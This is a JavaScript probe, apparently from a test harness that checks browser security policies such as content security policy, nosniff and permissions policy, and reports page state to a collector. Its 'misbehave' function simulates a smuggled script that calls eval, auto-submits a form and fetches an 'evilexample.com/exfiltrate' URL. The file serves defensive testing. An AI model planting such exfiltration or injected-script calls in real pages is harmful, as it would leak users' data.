"use strict";

const collector = "https://collector.example.com";
const step = new URLSearchParams(location.search).get("step");

function pause(milliseconds) {
  return new Promise((resolve) => setTimeout(resolve, milliseconds));
}

// What a smuggled script would try.
function misbehave() {
  const tried = [];
  try {
    eval("window.injected.push('a text')");
  } catch (error) {
    tried.push(error.name);
  }
  document.getElementById("link").click();
  document.getElementById("form").submit();
  return fetch("https://evilexample.com/exfiltrate").then(
    () => [...tried, "connected"],
    (error) => [...tried, error.name],
  );
}

async function look() {
  const isInjected = location.pathname === "/injected";
  const tried = isInjected ? await misbehave() : [];
  await fetch(`${collector}/referrer?step=${step}`);
  await pause(500);
  const image = document.getElementById("image");
  const policy = document.featurePolicy ?? document.permissionsPolicy;
  return {
    protocol: location.protocol,
    inline: window.inline ?? null,
    color: getComputedStyle(document.body).color,
    image: image ? image.naturalWidth : null,
    violations: window.violations ?? null,
    injected: window.injected ?? null,
    sniffed: window.sniffed === true,
    styled: isInjected ? getComputedStyle(document.getElementById("styled")).color : null,
    base: document.baseURI.startsWith(location.origin),
    tried,
    features: policy.allowedFeatures().filter((name) => ["camera", "geolocation", "microphone", "usb"].includes(name)),
    hasNonce: [...document.scripts].some((script) => script.getAttribute("nonce")),
  };
}

async function run() {
  if (window !== window.parent) {
    await fetch(`/ran?step=${step}`);
    return;
  }
  const seen = await look();
  const answer = await fetch(`${collector}/verdict?step=${step}`, {
    method: "POST",
    body: JSON.stringify(seen),
  });
  const next = await answer.text();
  if (next) {
    location.replace(next);
  }
}

run();
